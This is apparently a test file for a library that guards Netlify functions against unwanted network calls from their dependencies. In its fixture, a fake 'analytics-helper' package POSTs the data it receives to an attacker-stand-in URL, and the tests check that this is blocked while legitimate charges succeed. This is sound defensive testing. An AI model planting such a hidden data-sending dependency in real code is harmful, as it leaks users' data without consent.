/**
 * Netlify Functions through `perimeter/netlify`, no preload (Netlify runs functions on Lambda with its own bootstrap;
 * the wrapper is how the guard gets in): v2 functions (`(req: Request, context) => Response`), v1 handlers
 * (`(event, context) => ({ statusCode, body })`), a scheduled and a background function, called in-process with
 * the Request / event / context objects Netlify passes. A dependency's exfiltration is blocked and named after the
 * request; the function's own charge goes through.
 */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { PACKAGE_ROOT, runGuarded, startRecordingServer, tempDir, writeTree } from '../helpers.js';
import { PROBE_FILE, PROBE_SOURCE, readProbe } from '../servers/probe.js';

type Server = Awaited<ReturnType<typeof startRecordingServer>>;

function functionFolder(files: Record<string, string>): string {
  const dir = tempDir('perimeter-netlify-');
  writeTree(dir, {
    [PROBE_FILE]: PROBE_SOURCE,
    'node_modules/analytics-helper/package.json': '{"name":"analytics-helper","main":"index.js"}',
    // fetch, as most current packages would.
    'node_modules/analytics-helper/index.js': `module.exports = async (data) => {
  try { await fetch(process.env.EXFIL_URL + '/collect', { method: 'POST', body: JSON.stringify(data) }); return 'sent'; }
  catch (e) { return (e.cause && e.cause.code) || e.code || e.message; }
};`,
    ...files,
  });
  mkdirSync(join(dir, 'node_modules'), { recursive: true });
  symlinkSync(PACKAGE_ROOT, join(dir, 'node_modules/perimeter'), 'dir');
  return dir;
}

// The functions, as they would sit in netlify/functions/. The policy comes with the code (Netlify does not pass
// netlify.toml variables to functions): a path here, an imported object works the same.
const FUNCTIONS = `import { guard } from 'perimeter/netlify';
import track from 'analytics-helper';
const functionPolicy = new URL('./perimeter.json', import.meta.url).pathname;

async function charge(amount) {
  const res = await fetch(process.env.STRIPE_URL + '/v1/charges', { method: 'POST', body: 'amount=' + amount });
  return res.status;
}

// v2
export const checkout = guard(async (req, context) => {
  const { amount } = await req.json();
  return Response.json({ charge: await charge(amount), exfil: await track({ amount }), requestId: context.requestId });
}, { functionPolicy, name: 'checkout' });

// v2 scheduled (config.schedule): the body carries next_run
export const nightly = guard(async (req) => {
  const { next_run } = await req.json();
  return new Response(await track({ next_run }));
}, { functionPolicy, name: 'nightly' });

// v1, Lambda-compatible
export const legacy = guard(async (event, context) => {
  const { amount } = JSON.parse(event.body);
  return { statusCode: 200, body: JSON.stringify({ charge: await charge(amount), exfil: await track({ amount }) }) };
}, { functionPolicy });

// v1 background function (…-background): Netlify answers 202 at once; the work goes on, and events are flushed
// when it ends.
export const report = guard(async (event) => { await track({ report: event.body }); }, { functionPolicy });

// a per-function narrower policy: this one may not even charge
export const readonly = guard(async (req) => new Response(String(await charge(1).catch((e) => e.cause?.code ?? e.code))), {
  functionPolicy,
  policy: { network: { allow: [] } },
});
`;

const CALLER = `import { readFileSync } from 'node:fs';
import probe from './probe.cjs';
import { checkout, nightly, legacy, report, readonly } from './functions.mjs';
const { attempt, report: print } = probe;

function v2Context(requestId, req) {
  return {
    requestId,
    account: { id: 'acc_1' },
    site: { id: 'site_1', name: 'shop', url: 'https://shop.netlify.app' },
    deploy: { id: 'dep_1', context: 'production', published: true },
    geo: { city: 'Paris', country: { code: 'FR', name: 'France' } },
    ip: '203.0.113.7',
    params: {},
    server: { region: 'us-east-1' },
    url: new URL(req.url),
    cookies: { get() {}, set() {}, delete() {} },
    waitUntil() {},
  };
}
function v2(fn, requestId, body) {
  const req = new Request('https://shop.netlify.app/.netlify/functions/checkout', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-nf-request-id': requestId },
    body: JSON.stringify(body),
  });
  return fn(req, v2Context(requestId, req));
}
function v1Event(requestId, body) {
  return {
    rawUrl: 'https://shop.netlify.app/.netlify/functions/legacy',
    rawQuery: '',
    path: '/.netlify/functions/legacy',
    httpMethod: 'POST',
    headers: { 'content-type': 'application/json', 'x-nf-request-id': requestId },
    multiValueHeaders: {},
    queryStringParameters: {},
    multiValueQueryStringParameters: {},
    body: JSON.stringify(body),
    isBase64Encoded: false,
  };
}
const lambdaContext = (awsRequestId) => ({ functionName: 'shop-legacy', awsRequestId, callbackWaitsForEmptyEventLoop: true });

await attempt('v2', async () => JSON.stringify(await (await v2(checkout, 'nf-v2-1', { amount: 42 })).json()));
await attempt('scheduled', async () => (await v2(nightly, 'nf-cron-1', { next_run: '2026-11-24T00:00:00Z' })).text());
await attempt('v1', async () => (await legacy(v1Event('nf-v1-1', { amount: 7 }), lambdaContext('aws-v1-1'))).body);
await attempt('v1-header-only', async () => (await legacy(v1Event('nf-v1-2', { amount: 8 }), {})).body);
await attempt('background', async () => {
  await report(v1Event('nf-bg-1', 'weekly'), lambdaContext('aws-bg-1'));
  return String(readFileSync(process.env.PERIMETER_EVENTS_FILE, 'utf8').includes('aws-bg-1'));
});
await attempt('narrower', async () => (await v2(readonly, 'nf-ro-1', {})).text());
print();
`;

describe('perimeter/netlify, no preload', () => {
  let stripe: Server;
  let exfil: Server;
  let results: Record<string, string>;
  let events: Array<Record<string, any>>;

  before(async () => {
    [stripe, exfil] = await Promise.all([startRecordingServer(), startRecordingServer()]);
    const run = await runGuarded({
      dir: functionFolder({ 'functions.mjs': FUNCTIONS, 'main.mjs': CALLER }),
      policy: {
        mode: 'block',
        network: { allow: ['https://api.stripe.com', `POST http://127.0.0.1:${stripe.port}/v1/charges`] },
        env: { allow: ['STRIPE_URL', 'EXFIL_URL'] },
      },
      script: 'main.mjs',
      preload: 'none',
      env: { STRIPE_URL: stripe.url, EXFIL_URL: exfil.url },
    });
    assert.equal(run.code, 0, run.stderr);
    results = readProbe(run.stdout).results;
    events = run.events;
  });
  after(async () => {
    await Promise.all([stripe.close(), exfil.close()]);
  });

  const exfilEvent = (invocation: string) =>
    events.find((e) => e.package === 'analytics-helper' && e.invocation === invocation);

  test('v2: the charge goes through, the exfiltration is blocked and named after context.requestId', () => {
    assert.deepEqual(JSON.parse(results.v2!.replace(/^ok:/, '')), {
      charge: 200,
      exfil: 'ERR_PERIMETER_BLOCKED',
      requestId: 'nf-v2-1',
    });
    const event = exfilEvent('nf-v2-1');
    assert.ok(event, JSON.stringify(events));
    assert.equal(event.function, 'checkout');
    assert.equal(event.action, 'blocked');
    assert.equal(event.target, `POST ${exfil.url}/collect`);
  });

  test('scheduled (v2): blocked and named', () => {
    assert.equal(results.scheduled, 'ok:ERR_PERIMETER_BLOCKED');
    assert.equal(exfilEvent('nf-cron-1')?.function, 'nightly');
  });

  test('v1: request id from the Lambda context, else from x-nf-request-id; function name from the context', () => {
    assert.deepEqual(JSON.parse(results.v1!.replace(/^ok:/, '')), { charge: 200, exfil: 'ERR_PERIMETER_BLOCKED' });
    assert.equal(exfilEvent('aws-v1-1')?.function, 'shop-legacy');
    assert.ok(exfilEvent('nf-v1-2'), JSON.stringify(events));
  });

  test('background (v1): events are on disk when the function settles', () => {
    assert.equal(results.background, 'ok:true');
  });

  test('a per-function narrower policy denies even what the function policy allows', () => {
    assert.equal(results.narrower, 'ok:ERR_PERIMETER_BLOCKED');
    const event = events.find((e) => e.invocation === 'nf-ro-1');
    assert.equal(event?.reason, 'scope-policy');
  });

  test('nothing reached the attacker; the three allowed charges reached "Stripe"', () => {
    assert.equal(exfil.connections, 0);
    assert.equal(stripe.requests.length, 3);
  });
});

test('perimeter/netlify: an invalid function policy fails the function at load, before it can run', async () => {
  const run = await runGuarded({
    dir: functionFolder({
      'bad.mjs': `import { guard } from 'perimeter/netlify';
export default guard(async () => new Response('ran'), { functionPolicy: { mode: 'lockdown' } });`,
      'main.mjs': `try { await import('./bad.mjs'); console.log('loaded'); } catch (e) { console.log(e.code); }`,
    }),
    script: 'main.mjs',
    preload: 'none',
  });
  assert.equal(run.code, 0, run.stderr);
  assert.equal(run.stdout.trim(), 'ERR_PERIMETER_POLICY_INVALID');
});
